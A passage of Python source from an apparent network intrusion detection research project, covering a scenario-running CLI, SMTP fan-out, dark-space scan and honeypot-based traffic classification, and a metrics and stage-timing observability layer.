    print(f"wrote {len(packets)} packets to {args.output} "
          f"({trace.crii_instances} CRII instances from "
          f"{', '.join(trace.crii_sources) or 'none'}){suffix}")
    return 0


# ---------------------------------------------------------------------------
# repro-scenario
# ---------------------------------------------------------------------------


def scenario_main(argv: list[str] | None = None) -> int:
    """Validate, run, or describe declarative YAML scenarios."""
    parser = argparse.ArgumentParser(
        prog="repro-scenario",
        description="Declarative end-to-end experiments from YAML "
                    "scenario files (see docs/scenarios.md).",
    )
    sub = parser.add_subparsers(dest="command", required=True)

    p_validate = sub.add_parser(
        "validate", help="check scenario files against the schema")
    p_validate.add_argument("files", type=Path, nargs="+",
                            metavar="SCENARIO")

    p_run = sub.add_parser("run", help="run one scenario end to end")
    p_run.add_argument("file", type=Path, metavar="SCENARIO")
    p_run.add_argument("--result-out", type=Path, metavar="FILE",
                       help="write the machine-readable result "
                            "(repro.scenario-result/v1 JSON) here")
    p_run.add_argument("--override-seed", type=int, default=None,
                       metavar="N",
                       help="run with this master seed instead of the "
                            "file's (reproducibility experiments)")
    p_run.add_argument("--override-engine",
                       choices=("serial", "parallel", "daemon", "fleet"),
                       default=None, metavar="KIND",
                       help="run on this engine kind instead of the "
                            "file's (parity experiments)")
    p_run.add_argument("--print-alerts", action="store_true",
                       help="print the full alert stream, one line per "
                            "alert (the bytes the digest pins)")
    p_run.add_argument("--quiet", action="store_true",
                       help="suppress the per-check report; the exit "
                            "status still reflects the expect: block")

    p_list = sub.add_parser(
        "list", help="summarize scenario files, or with no files, the "
                     "DSL vocabulary")
    p_list.add_argument("files", type=Path, nargs="*", metavar="SCENARIO")
    p_list.add_argument("--keys", action="store_true",
                        help="print the full schema key reference "
                             "instead")
    args = parser.parse_args(argv)

    from .scenario import ScenarioError, load_scenario

    if args.command == "validate":
        failures = 0
        for path in args.files:
            try:
                spec = load_scenario(path)
            except ScenarioError as exc:
                print(f"{path}: INVALID: {exc}", file=sys.stderr)
                failures += 1
                continue
            print(f"{path}: ok — scenario {spec.name!r} "
                  f"({len(spec.campaigns)} campaign(s), "
                  f"{len(spec.evasion)} evasion transform(s), "
                  f"engine {spec.engine.kind})")
        return 2 if failures else 0

    if args.command == "run":
        import dataclasses

        from .scenario import run_scenario

        try:
            spec = load_scenario(args.file)
        except ScenarioError as exc:
            print(f"error: {exc}", file=sys.stderr)
            return 2
        if args.override_seed is not None:
            spec = dataclasses.replace(spec, seed=args.override_seed)
        if args.override_engine is not None:
            spec = dataclasses.replace(
                spec, engine=dataclasses.replace(
                    spec.engine, kind=args.override_engine))
        result = run_scenario(spec)
        if args.print_alerts:
            for line in result.alert_lines():
                print(line)
        if not args.quiet:
            print(f"scenario {spec.name!r}: {result.packets} packets, "
                  f"{len(result.alerts)} alert(s), engine "
                  f"{spec.engine.kind}, seed {spec.seed}")
            print(f"alert stream sha256: {result.digest}")
            for check in result.checks:
                status = "PASS" if check.passed else "FAIL"
                print(f"  [{status}] {check.check}: expected "
                      f"{check.expected}, got {check.actual}")
            if not result.checks:
                print("  (no expect: block — nothing gated)")
        if args.result_out:
            args.result_out.write_text(result.to_json())
            if not args.quiet:
                print(f"result JSON written to {args.result_out}")
        return 0 if result.passed else 1

    # list
    if args.keys:
        from .scenario import SCHEMA

        width = max(len(k.path) for k in SCHEMA)
        for key in SCHEMA:
            default = ("" if key.default == "—"
                       else f" (default {key.default})")
            print(f"{key.path:{width}s}  {key.type:14s} {key.doc}"
                  f"{default}")
        return 0
    if args.files:
        failures = 0
        for path in args.files:
            try:
                spec = load_scenario(path)
            except ScenarioError as exc:
                print(f"{path}: INVALID: {exc}", file=sys.stderr)
                failures += 1
                continue
            engines = ", ".join(c.engine for c in spec.campaigns) or "none"
            print(f"{path.name}: {spec.name} — {spec.description or '-'} "
                  f"[campaigns: {engines}; engine: {spec.engine.kind}; "
                  f"expect: {'yes' if not spec.expect.empty else 'no'}]")
        return 2 if failures else 0
    from .scenario import CAMPAIGN_ENGINES, CHAOS_KINDS, ENGINE_KINDS
    from .nids.parallel import TEMPLATE_SETS
    from .traffic import evasion_names

    print("campaign engines: " + ", ".join(sorted(CAMPAIGN_ENGINES)))
    print("evasion transforms: " + ", ".join(evasion_names()))
    print("chaos kinds: " + ", ".join(CHAOS_KINDS))
    print("engine kinds: " + ", ".join(ENGINE_KINDS))
    print("template sets: " + ", ".join(sorted(TEMPLATE_SETS)))
    return 0

"""SMTP fan-out detection (email-worm extension).

A mass-mailing worm's classifier-level signature is one host opening SMTP
conversations with many *distinct* destinations in a short window —
ordinary clients talk to one or two relays.  Symmetric to the dark-space
monitor: distinct destinations are counted per source, and crossing the
threshold marks the source suspicious so its traffic (the attachment
bytes) reaches semantic analysis.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from ..net.inet import int_to_ip, ip_to_int
from ..net.packet import Packet

__all__ = ["SmtpFanoutMonitor", "FanoutRecord"]

SMTP_PORTS = frozenset({25, 465, 587})


@dataclass
class FanoutRecord:
    """Mailing behaviour of one source host."""

    source: int
    destinations: set[int] = field(default_factory=set)
    window_start: float = 0.0
    last_seen: float = 0.0
    flagged: bool = False

    @property
    def count(self) -> int:
        return len(self.destinations)


class SmtpFanoutMonitor:
    """Flags hosts whose distinct-SMTP-destination count crosses the
    threshold within a sliding window."""

    def __init__(self, threshold: int = 8, window: float = 300.0) -> None:
        self.threshold = threshold
        self.window = window
        self.records: dict[int, FanoutRecord] = {}
        self.mailers_flagged = 0

    def observe(self, pkt: Packet) -> bool:
        """Feed a packet; True once the source is a flagged mass-mailer."""
        if pkt.ip is None or not pkt.is_tcp or pkt.dport not in SMTP_PORTS:
            return self.is_mailer(pkt.ip.src) if pkt.ip else False
        src = ip_to_int(pkt.ip.src)
        record = self.records.get(src)
        if record is None or (
            not record.flagged
            and pkt.timestamp - record.window_start > self.window
        ):
            record = FanoutRecord(source=src, window_start=pkt.timestamp)
            self.records[src] = record
        record.destinations.add(ip_to_int(pkt.ip.dst))
        record.last_seen = pkt.timestamp
        if not record.flagged and record.count >= self.threshold:
            record.flagged = True
            self.mailers_flagged += 1
        return record.flagged

    def is_mailer(self, address: str | int) -> bool:
        record = self.records.get(ip_to_int(address))
        return record is not None and record.flagged

    def mailers(self) -> list[str]:
        return [int_to_ip(r.source) for r in self.records.values()
                if r.flagged]

"""The combined traffic classifier (stage (a) of Figure 3).

Routes packets to the expensive analysis stages only when their sender is
suspicious: it contacted a honeypot, or it crossed the dark-space scan
threshold.  With ``enabled=False`` the classifier reproduces the §5.4
configuration: every packet payload is analyzed.
"""

from __future__ import annotations

from ..net.inet import int_to_ip, ip_to_int
from ..net.packet import Packet
from ..obs import MetricField, MetricsRegistry, StageTimer, Tracer, bind_metrics
from .darkspace import DarkSpaceMonitor
from .fanout import SmtpFanoutMonitor
from .honeypot import HoneypotRegistry

__all__ = ["TrafficClassifier", "ClassifierStats"]


class ClassifierStats:
    """Counters for the efficiency story: how much traffic the classifier
    kept away from the CPU-intensive stages.  Registry-backed views; the
    attribute names predate the observability layer."""

    packets_seen = MetricField(
        "repro_classify_packets_total",
        help="Packets inspected by the classifier.", unit="packets")
    packets_forwarded = MetricField(
        "repro_classify_forwarded_total",
        help="Packets forwarded to the analysis stages.", unit="packets")
    honeypot_marks = MetricField(
        "repro_classify_honeypot_marks_total",
        help="Senders first marked suspicious by honeypot contact.",
        unit="hosts")
    darkspace_marks = MetricField(
        "repro_classify_darkspace_marks_total",
        help="Senders first marked suspicious by dark-space scanning.",
        unit="hosts")
    fanout_marks = MetricField(
        "repro_classify_fanout_marks_total",
        help="Senders first marked suspicious by SMTP fan-out.",
        unit="hosts")

    def __init__(self, registry: MetricsRegistry | None = None) -> None:
        bind_metrics(self, registry)

    @property
    def forward_ratio(self) -> float:
        if self.packets_seen == 0:
            return 0.0
        return self.packets_forwarded / self.packets_seen


class TrafficClassifier:
    """Marks suspicious senders and answers "does this packet need
    analysis?" for every packet on the wire."""

    def __init__(
        self,
        honeypots: HoneypotRegistry | None = None,
        darkspace: DarkSpaceMonitor | None = None,
        fanout: SmtpFanoutMonitor | None = None,
        enabled: bool = True,
        registry: MetricsRegistry | None = None,
        tracer: Tracer | None = None,
    ) -> None:
        self.honeypots = honeypots or HoneypotRegistry()
        self.darkspace = darkspace or DarkSpaceMonitor()
        #: optional email-worm extension; None disables fan-out marking
        self.fanout = fanout
        self.enabled = enabled
        self.suspicious: set[int] = set()
        self.stats = ClassifierStats(registry)
        self.timer = StageTimer("classify", registry, tracer)

    def mark_suspicious(self, address: str | int) -> None:
        self.suspicious.add(ip_to_int(address))

    def is_suspicious(self, address: str | int) -> bool:
        return ip_to_int(address) in self.suspicious

    def classify(self, pkt: Packet) -> bool:
        """Feed a packet; returns True if it should be analyzed further."""
        with self.timer.timed(nbytes=len(pkt.payload)):
            return self._classify(pkt)

    def _classify(self, pkt: Packet) -> bool:
        self.stats.packets_seen += 1
        if not self.enabled:
            self.stats.packets_forwarded += 1
            return True
        if pkt.ip is None:
            return False
        src = ip_to_int(pkt.ip.src)
        if self.honeypots.observe(pkt):
            if src not in self.suspicious:
                self.stats.honeypot_marks += 1
            self.suspicious.add(src)
        if self.darkspace.observe(pkt):
            if src not in self.suspicious:
                self.stats.darkspace_marks += 1
            self.suspicious.add(src)
        if self.fanout is not None and self.fanout.observe(pkt):
            if src not in self.suspicious:
                self.stats.fanout_marks += 1
            self.suspicious.add(src)
        forward = src in self.suspicious
        if forward:
            self.stats.packets_forwarded += 1
        return forward

    def suspicious_hosts(self) -> list[str]:
        return sorted(int_to_ip(a) for a in self.suspicious)

"""Dark-address-space scan detection (§4.1, scheme 2).

The monitor is configured with the *unused* portions of the protected
network.  A host's first packet to an unused address initializes a count
``n``; each additional packet to a *different* unused address increments
it; when the count reaches threshold ``t`` the host is declared a scanner
and its traffic is considered for further analysis.

Counting distinct targets (not raw packets) is what the paper's wording
("additional packets to other un-used addresses") implies, and it avoids
flagging a single lost flow that retransmits into a dark address.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from ..net.inet import Ipv4Network, int_to_ip, ip_to_int
from ..net.packet import Packet

__all__ = ["DarkSpaceMonitor", "ScannerRecord"]


@dataclass
class ScannerRecord:
    """Scan state for one source host."""

    source: int
    targets: set[int] = field(default_factory=set)
    first_seen: float = 0.0
    last_seen: float = 0.0
    flagged: bool = False

    @property
    def count(self) -> int:
        return len(self.targets)


class DarkSpaceMonitor:
    """Tracks per-source contact with unused address space."""

    def __init__(
        self,
        dark_networks: list[Ipv4Network | str] | None = None,
        dark_hosts: list[str | int] | None = None,
        threshold: int = 5,
        idle_timeout: float = 600.0,
        exclude: list[Ipv4Network | str] | None = None,
    ) -> None:
        self.networks: list[Ipv4Network] = [
            net if isinstance(net, Ipv4Network) else Ipv4Network.parse(net)
            for net in (dark_networks or [])
        ]
        #: used subnets carved out of the dark ranges (the operator "notes
        #: the un-used IP address space in our network" — the used space is
        #: the complement)
        self.exclude: list[Ipv4Network] = [
            net if isinstance(net, Ipv4Network) else Ipv4Network.parse(net)
            for net in (exclude or [])
        ]
        self.hosts: set[int] = {ip_to_int(h) for h in (dark_hosts or [])}
        self.threshold = threshold
        self.idle_timeout = idle_timeout
        self.records: dict[int, ScannerRecord] = {}
        self.scanners_flagged = 0

    def is_dark(self, address: str | int) -> bool:
        addr = ip_to_int(address)
        if addr in self.hosts:
            return True
        if any(addr in net for net in self.exclude):
            return False
        return any(addr in net for net in self.networks)

    def observe(self, pkt: Packet) -> bool:
        """Feed one packet; returns True the moment the source crosses the
        scan threshold (it stays flagged afterwards)."""
        if pkt.ip is None:
            return False
        dst = ip_to_int(pkt.ip.dst)
        if not self.is_dark(dst):
            return False
        src = ip_to_int(pkt.ip.src)
        record = self.records.get(src)
        if record is None or (
            pkt.timestamp - record.last_seen > self.idle_timeout and not record.flagged
        ):
            record = ScannerRecord(source=src, first_seen=pkt.timestamp)
            self.records[src] = record
        record.targets.add(dst)
        record.last_seen = pkt.timestamp
        if not record.flagged and record.count >= self.threshold:
            record.flagged = True
            self.scanners_flagged += 1
            return True
        return record.flagged

    def is_scanner(self, address: str | int) -> bool:
        record = self.records.get(ip_to_int(address))
        return record is not None and record.flagged

    def scanners(self) -> list[str]:
        return [int_to_ip(r.source) for r in self.records.values() if r.flagged]

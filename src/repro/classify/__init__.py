"""Traffic classification: honeypot registry, dark-space scan detection,
and the combined classifier (stage (a) of the paper's architecture)."""

from .honeypot import HoneypotRegistry
from .fanout import FanoutRecord, SmtpFanoutMonitor
from .darkspace import DarkSpaceMonitor, ScannerRecord
from .classifier import ClassifierStats, TrafficClassifier

__all__ = [
    "HoneypotRegistry",
    "FanoutRecord",
    "SmtpFanoutMonitor",
    "DarkSpaceMonitor",
    "ScannerRecord",
    "ClassifierStats",
    "TrafficClassifier",
]

"""Honeypot-based traffic classification (§4.1, scheme 1).

The NIDS is initialized with a list of decoy addresses that exist for no
other purpose than to attract unsolicited traffic.  Any host that sends
anything to a honeypot is marked suspicious, and *all* of its subsequent
traffic is routed to the expensive analysis stages.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from ..net.inet import ip_to_int
from ..net.packet import Packet

__all__ = ["HoneypotRegistry"]


@dataclass
class HoneypotRegistry:
    """Registry of decoy host addresses."""

    decoys: set[int] = field(default_factory=set)
    hits: int = 0

    @classmethod
    def of(cls, addresses: list[str | int]) -> "HoneypotRegistry":
        return cls(decoys={ip_to_int(a) for a in addresses})

    def add(self, address: str | int) -> None:
        self.decoys.add(ip_to_int(address))

    def is_decoy(self, address: str | int) -> bool:
        return ip_to_int(address) in self.decoys

    def observe(self, pkt: Packet) -> bool:
        """True if this packet targets a honeypot (the sender should then be
        marked suspicious by the caller)."""
        if pkt.ip is None:
            return False
        if ip_to_int(pkt.ip.dst) in self.decoys:
            self.hits += 1
            return True
        return False

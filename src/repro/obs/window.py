"""Rolling metrics windows and drift-free periodic scheduling.

A long-running sensor cannot answer "how fast right now?" from
monotonically growing totals alone: the daemon rolls the registry into
fixed-duration windows and keeps the last N, so operators see current
rates and latency quantiles, not lifetime averages.

Two pieces:

- :class:`PeriodicSchedule` — a deadline-anchored interval timer.  Each
  deadline is computed from the *previous deadline*, never from "now",
  so per-batch processing time cannot drift the cadence (the historical
  ``--heartbeat`` bug); when the caller falls more than a whole interval
  behind, missed deadlines are skipped rather than replayed as a burst.
- :class:`MetricsWindow` — successive diffs of a
  :class:`~repro.obs.registry.MetricsRegistry` snapshot.  It keeps its
  own last-value bookkeeping (it never touches the ``_last`` fields the
  worker delta protocol owns), so windowing composes with the parallel
  engine's ``collect_delta``/``merge_delta`` traffic.
"""

from __future__ import annotations

import time
from dataclasses import dataclass, field

from .registry import Histogram, MetricsRegistry

__all__ = ["PeriodicSchedule", "MetricsWindow", "WindowSnapshot",
           "quantile_from_buckets"]


class PeriodicSchedule:
    """Interval timer whose deadlines never drift.

    ``due()`` returns ``True`` at most once per elapsed interval and
    advances the next deadline from the previous one (``prev +
    interval``), not from the current clock reading — so a beat that
    fires late does not push every later beat back by the lateness.
    If more than one whole interval was missed, the schedule skips
    forward to the next future deadline instead of firing a backlog.
    """

    def __init__(self, interval: float, clock=time.monotonic) -> None:
        if interval <= 0:
            raise ValueError("interval must be positive")
        self.interval = interval
        self._clock = clock
        self.next_deadline = clock() + interval

    def due(self, now: float | None = None) -> bool:
        now = self._clock() if now is None else now
        if now < self.next_deadline:
            return False
        self.next_deadline += self.interval
        if self.next_deadline <= now:
            # More than a full interval behind: skip the missed beats,
            # keeping the deadline grid anchored to the original phase.
            missed = int((now - self.next_deadline) // self.interval) + 1
            self.next_deadline += missed * self.interval
        return True


def quantile_from_buckets(edges: tuple[float, ...], counts: list[int],
                          q: float) -> float:
    """Quantile estimate from fixed-bucket histogram counts.

    Returns the upper edge of the bucket containing the q-th observation
    (the overflow bucket reports the last finite edge), which is how
    Prometheus' ``histogram_quantile`` degrades too — an upper bound,
    never an undercount.
    """
    total = sum(counts)
    if total == 0:
        return 0.0
    rank = q * total
    seen = 0
    for i, count in enumerate(counts):
        seen += count
        if seen >= rank:
            return edges[i] if i < len(edges) else edges[-1]
    return edges[-1]


@dataclass
class WindowSnapshot:
    """One closed window: counter increments and histogram deltas."""

    start: float
    end: float
    #: ``(name, labels_key)`` → increment over the window
    counters: dict[tuple, float] = field(default_factory=dict)
    #: ``(name, labels_key)`` → (edges, delta_counts, delta_sum)
    histograms: dict[tuple, tuple] = field(default_factory=dict)
    #: ``(name, labels_key)`` → value at window close
    gauges: dict[tuple, float] = field(default_factory=dict)

    @property
    def duration(self) -> float:
        return self.end - self.start

    def rate(self, name: str, labels: dict[str, str] | None = None) -> float:
        """Counter increments per second over this window."""
        key = (name, tuple(sorted((labels or {}).items())))
        if self.duration <= 0:
            return 0.0
        return self.counters.get(key, 0.0) / self.duration

    def quantile(self, name: str, q: float,
                 labels: dict[str, str] | None = None) -> float:
        """Histogram quantile over this window's observations alone."""
        key = (name, tuple(sorted((labels or {}).items())))
        entry = self.histograms.get(key)
        if entry is None:
            return 0.0
        edges, counts, _ = entry
        return quantile_from_buckets(edges, counts, q)


class MetricsWindow:
    """Rolls a registry into fixed-duration :class:`WindowSnapshot` s.

    ``roll(now)`` closes the current window — the diff of every counter
    and histogram against the previous roll — and appends it to
    :attr:`windows` (bounded to ``max_windows``, oldest first out).
    """

    def __init__(self, registry: MetricsRegistry, *,
                 max_windows: int = 60,
                 clock=time.monotonic) -> None:
        self.registry = registry
        self.max_windows = max_windows
        self._clock = clock
        self.windows: list[WindowSnapshot] = []
        self._window_start = clock()
        self._last_counters: dict[tuple, float] = {}
        self._last_hist: dict[tuple, tuple] = {}

    def roll(self, now: float | None = None) -> WindowSnapshot:
        """Close the running window and start the next one."""
        now = self._clock() if now is None else now
        snap = WindowSnapshot(start=self._window_start, end=now)
        for metric in self.registry.metrics():
            key = (metric.name, tuple(sorted(metric.labels.items())))
            if isinstance(metric, Histogram):
                last_counts, last_sum = self._last_hist.get(
                    key, ([0] * len(metric.counts), 0.0))
                delta = [c - l for c, l in zip(metric.counts, last_counts)]
                if any(delta):
                    snap.histograms[key] = (metric.edges, delta,
                                            metric.sum - last_sum)
                self._last_hist[key] = (list(metric.counts), metric.sum)
            elif metric.kind == "gauge":
                snap.gauges[key] = metric.value
            else:
                diff = metric.value - self._last_counters.get(key, 0)
                if diff:
                    snap.counters[key] = diff
                self._last_counters[key] = metric.value
        self.windows.append(snap)
        if len(self.windows) > self.max_windows:
            del self.windows[: len(self.windows) - self.max_windows]
        self._window_start = now
        return snap

    @property
    def latest(self) -> WindowSnapshot | None:
        return self.windows[-1] if self.windows else None

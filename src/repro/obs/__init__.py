"""repro.obs — zero-dependency observability for the pipeline.

Three pieces:

- :mod:`repro.obs.registry` — counters, gauges, histograms; JSON and
  Prometheus export; picklable deltas for the parallel engine's workers;
- :mod:`repro.obs.tracer` — opt-in per-stage spans (in-memory or JSONL);
- :mod:`repro.obs.stage` — :class:`StageTimer`, the per-stage timing
  view every component shares.

See docs/observability.md for the full metric catalog.
"""

from .registry import (
    LATENCY_BUCKETS,
    Counter,
    Gauge,
    Histogram,
    MetricField,
    MetricsRegistry,
    bind_metrics,
)
from .stage import ANALYZE_STAGE, PIPELINE_STAGES, StageTimer
from .tracer import NullTracer, Span, Tracer, aggregate_spans, read_spans
from .window import (
    MetricsWindow,
    PeriodicSchedule,
    WindowSnapshot,
    quantile_from_buckets,
)

__all__ = [
    "ANALYZE_STAGE",
    "LATENCY_BUCKETS",
    "PIPELINE_STAGES",
    "Counter",
    "Gauge",
    "Histogram",
    "MetricField",
    "MetricsRegistry",
    "MetricsWindow",
    "NullTracer",
    "PeriodicSchedule",
    "Span",
    "StageTimer",
    "Tracer",
    "WindowSnapshot",
    "aggregate_spans",
    "bind_metrics",
    "quantile_from_buckets",
    "read_spans",
]

"""Stage timing: the bridge between components, metrics, and spans.

Every pipeline stage times itself through a :class:`StageTimer`.  The
timer owns no numbers — it is a *view* over four labeled metrics in the
shared registry:

- ``repro_stage_calls_total{stage=...}``
- ``repro_stage_seconds_total{stage=...}``
- ``repro_stage_bytes_total{stage=...}``
- ``repro_stage_latency_seconds{stage=...}`` (histogram, log buckets)

Two StageTimers built from the same registry and stage name therefore
*are* the same counters: the ``NidsStats.extraction`` view and the
extractor's own self-timing converge without any syncing, and a worker
process's stage metrics flow into the parent's timers through the
registry delta merge.  When a tracer is attached, every ``timed()``
block additionally emits a span — metrics and traces come from one
timing site.
"""

from __future__ import annotations

from contextlib import contextmanager
from time import perf_counter

from .registry import MetricsRegistry
from .tracer import NullTracer, Span, Tracer

__all__ = ["ANALYZE_STAGE", "PIPELINE_STAGES", "StageTimer"]

#: The six pipeline stages, in data-flow order.
PIPELINE_STAGES: tuple[str, ...] = (
    "classify", "reassemble", "extract", "disassemble", "lift", "match")

#: Aggregate over disassemble+lift+match (one ``analyze_frame`` call);
#: kept distinct so per-frame totals remain comparable with pre-obs runs.
ANALYZE_STAGE = "analyze"

_STAGE_HELP = {
    "calls": "Stage invocations.",
    "seconds": "Wall time spent inside the stage.",
    "bytes": "Payload bytes processed by the stage.",
    "latency": "Per-invocation stage latency.",
}


class StageTimer:
    """Times one pipeline stage against registry-backed metrics.

    Mutable ``calls`` / ``elapsed`` / ``bytes`` properties keep the
    pre-obs ``stats.extraction.calls += 1`` call sites working (the
    parallel engine synthesizes calls for cache replays that way).
    """

    def __init__(self, name: str,
                 registry: MetricsRegistry | None = None,
                 tracer: Tracer | None = None) -> None:
        registry = registry if registry is not None else MetricsRegistry()
        labels = {"stage": name}
        self.name = name
        self.tracer = tracer if tracer is not None else NullTracer()
        self._calls = registry.counter(
            "repro_stage_calls_total", labels=labels,
            help=_STAGE_HELP["calls"], unit="calls")
        self._seconds = registry.counter(
            "repro_stage_seconds_total", labels=labels,
            help=_STAGE_HELP["seconds"], unit="seconds")
        self._bytes = registry.counter(
            "repro_stage_bytes_total", labels=labels,
            help=_STAGE_HELP["bytes"], unit="bytes")
        self._latency = registry.histogram(
            "repro_stage_latency_seconds", labels=labels,
            help=_STAGE_HELP["latency"], unit="seconds")

    # -- the timing path -----------------------------------------------------

    def observe(self, duration: float, nbytes: int = 0) -> None:
        """Record one completed stage invocation."""
        self._calls.value += 1
        self._seconds.value += duration
        self._bytes.value += nbytes
        self._latency.observe(duration)

    @contextmanager
    def timed(self, nbytes: int = 0, **attrs):
        """Time a block: one metrics observation, plus a span when a
        tracer is attached."""
        start = perf_counter()
        try:
            yield
        finally:
            duration = perf_counter() - start
            self.observe(duration, nbytes)
            if self.tracer.enabled:
                self.tracer.emit(Span(stage=self.name, start=start,
                                      duration=duration, nbytes=nbytes,
                                      attrs=attrs))

    # -- back-compat value views ---------------------------------------------

    @property
    def calls(self) -> int:
        return self._calls.value

    @calls.setter
    def calls(self, value: int) -> None:
        self._calls.value = value

    @property
    def elapsed(self) -> float:
        return self._seconds.value

    @elapsed.setter
    def elapsed(self, value: float) -> None:
        self._seconds.value = value

    @property
    def bytes(self) -> int:
        return self._bytes.value

    @bytes.setter
    def bytes(self, value: int) -> None:
        self._bytes.value = value

    @property
    def mean(self) -> float:
        return self.elapsed / self.calls if self.calls else 0.0

"""The metrics registry: counters, gauges, and histograms.

Zero-dependency observability substrate for the pipeline.  Every stage
and component registers its metrics here; one registry per sensor holds
the complete picture, exportable as a JSON snapshot or Prometheus text
exposition (``repro-sensor --metrics-out``).

Design constraints, in order:

- **negligible hot-path cost** — a counter increment is one attribute
  add; a histogram observation is one ``bisect`` into a fixed edge
  tuple.  No locks (the pipeline is single-threaded per process; the
  parallel engine merges *deltas*, it never shares a registry between
  processes);
- **identical schemas everywhere** — metric identity is
  ``(name, sorted labels)``; serial and parallel engines construct the
  same set at init time, so a snapshot's shape never depends on which
  engine produced it;
- **picklable deltas** — worker processes ship ``collect_delta()``
  output (plain tuples/lists) back with their results and the parent
  ``merge_delta()``s them, which is how worker-side stage timings land
  in the parent's registry.
"""

from __future__ import annotations

import json
from bisect import bisect_left

__all__ = [
    "LATENCY_BUCKETS",
    "Counter",
    "Gauge",
    "Histogram",
    "MetricField",
    "MetricsRegistry",
    "bind_metrics",
]

#: Fixed log-scale latency bucket upper edges, in seconds: 1 µs to ~4.2 s
#: in powers of four (12 edges + implicit +Inf overflow bucket).  Fixed —
#: never derived from data — so histograms from any run, any engine, any
#: worker merge bucket-for-bucket.
LATENCY_BUCKETS: tuple[float, ...] = tuple(1e-6 * 4 ** i for i in range(12))


def _labels_key(labels: dict[str, str] | None) -> tuple[tuple[str, str], ...]:
    return tuple(sorted((labels or {}).items()))


class _Metric:
    """Common identity fields; subclasses add the value shape."""

    kind = "metric"
    __slots__ = ("name", "labels", "help", "unit")

    def __init__(self, name: str, labels: dict[str, str] | None,
                 help: str = "", unit: str = "") -> None:
        self.name = name
        self.labels = dict(labels or {})
        self.help = help
        self.unit = unit


class Counter(_Metric):
    """Monotonically increasing value (decrements are tolerated only for
    the parallel engine's failure-recovery accounting)."""

    kind = "counter"
    __slots__ = ("value", "_last")

    def __init__(self, name, labels=None, help="", unit=""):
        super().__init__(name, labels, help, unit)
        self.value: int | float = 0
        self._last: int | float = 0

    def inc(self, amount: int | float = 1) -> None:
        self.value += amount


class Gauge(_Metric):
    """A value that goes up and down (buffered bytes, active streams)."""

    kind = "gauge"
    __slots__ = ("value",)

    def __init__(self, name, labels=None, help="", unit=""):
        super().__init__(name, labels, help, unit)
        self.value: int | float = 0

    def set(self, value: int | float) -> None:
        self.value = value


class Histogram(_Metric):
    """Fixed-bucket histogram; ``counts[i]`` is observations with
    ``value <= edges[i]``, the final slot is the +Inf overflow."""

    kind = "histogram"
    __slots__ = ("edges", "counts", "sum", "count",
                 "_last_counts", "_last_sum", "_last_count")

    def __init__(self, name, labels=None, help="", unit="",
                 buckets: tuple[float, ...] = LATENCY_BUCKETS):
        super().__init__(name, labels, help, unit)
        self.edges = tuple(buckets)
        self.counts = [0] * (len(self.edges) + 1)
        self.sum = 0.0
        self.count = 0
        self._last_counts = [0] * (len(self.edges) + 1)
        self._last_sum = 0.0
        self._last_count = 0

    def observe(self, value: float) -> None:
        self.counts[bisect_left(self.edges, value)] += 1
        self.sum += value
        self.count += 1


class MetricField:
    """Class-level descriptor binding an attribute to a registry metric.

    Components keep their historical counter attributes (``.evicted``,
    ``.fragments_dropped``, ...) — reads and ``+=`` work exactly as on a
    plain int — but the storage is a registry metric, so the same number
    surfaces in ``--metrics-out`` without any syncing.  Call
    :func:`bind_metrics` in ``__init__`` to materialize the instances.
    """

    def __init__(self, name: str, help: str = "", unit: str = "",
                 kind: str = "counter",
                 labels: dict[str, str] | None = None) -> None:
        self.name = name
        self.help = help
        self.unit = unit
        self.kind = kind
        self.labels = labels
        self.attr = "?"

    def __set_name__(self, owner, attr: str) -> None:
        self.attr = attr

    def create(self, registry: "MetricsRegistry"):
        factory = registry.counter if self.kind == "counter" else registry.gauge
        return factory(self.name, labels=self.labels, help=self.help,
                       unit=self.unit)

    def __get__(self, obj, objtype=None):
        if obj is None:
            return self
        return obj._obs_metrics[self.attr].value

    def __set__(self, obj, value) -> None:
        obj._obs_metrics[self.attr].value = value


def bind_metrics(obj, registry: "MetricsRegistry | None") -> "MetricsRegistry":
    """Materialize every :class:`MetricField` declared on ``type(obj)``
    into ``registry`` (a private registry is created when ``None``) and
    return the registry used."""
    registry = registry if registry is not None else MetricsRegistry()
    metrics: dict[str, _Metric] = {}
    for klass in type(obj).__mro__:
        for attr, field in vars(klass).items():
            if isinstance(field, MetricField) and attr not in metrics:
                metrics[attr] = field.create(registry)
    obj._obs_metrics = metrics
    return registry


class MetricsRegistry:
    """Holds every metric of one sensor; the export and merge point.

    Metric identity is ``(name, sorted(labels))``; registering an
    existing identity returns the existing instance (so a
    :class:`~repro.obs.stage.StageTimer` view in ``NidsStats`` and the
    component that does the timing share one set of numbers), and
    registering the same *name* with a different kind raises.
    """

    SNAPSHOT_SCHEMA = "repro.obs/v1"

    def __init__(self) -> None:
        self._metrics: dict[tuple, _Metric] = {}
        self._kinds: dict[str, str] = {}

    # -- registration --------------------------------------------------------

    def _register(self, cls, name: str, labels, help: str, unit: str,
                  **kwargs) -> _Metric:
        key = (name, _labels_key(labels))
        kind = cls.kind
        metric = self._metrics.get(key)
        if metric is not None:
            if metric.kind != kind:
                raise ValueError(
                    f"metric {name!r} already registered as "
                    f"{metric.kind}, not {kind}")
            return metric
        if self._kinds.setdefault(name, kind) != kind:
            raise ValueError(
                f"metric {name!r} already registered as "
                f"{self._kinds[name]}, not {kind}")
        metric = cls(name, labels=labels, help=help, unit=unit, **kwargs)
        self._metrics[key] = metric
        return metric

    def counter(self, name: str, labels: dict[str, str] | None = None,
                help: str = "", unit: str = "") -> Counter:
        return self._register(Counter, name, labels, help, unit)

    def gauge(self, name: str, labels: dict[str, str] | None = None,
              help: str = "", unit: str = "") -> Gauge:
        return self._register(Gauge, name, labels, help, unit)

    def histogram(self, name: str, labels: dict[str, str] | None = None,
                  help: str = "", unit: str = "",
                  buckets: tuple[float, ...] = LATENCY_BUCKETS) -> Histogram:
        return self._register(Histogram, name, labels, help, unit,
                              buckets=buckets)

    # -- introspection -------------------------------------------------------

    def metrics(self) -> list[_Metric]:
        return [self._metrics[k] for k in sorted(self._metrics)]

    def names(self) -> list[str]:
        return sorted({m.name for m in self._metrics.values()})

    def get(self, name: str, labels: dict[str, str] | None = None):
        return self._metrics.get((name, _labels_key(labels)))

    def schema(self) -> list[tuple]:
        """Shape-only view: ``(name, kind, labels, unit)`` per metric —
        what the serial-vs-parallel equivalence tests compare."""
        return [(m.name, m.kind, _labels_key(m.labels), m.unit)
                for m in self.metrics()]

    # -- export --------------------------------------------------------------

    def snapshot(self) -> dict:
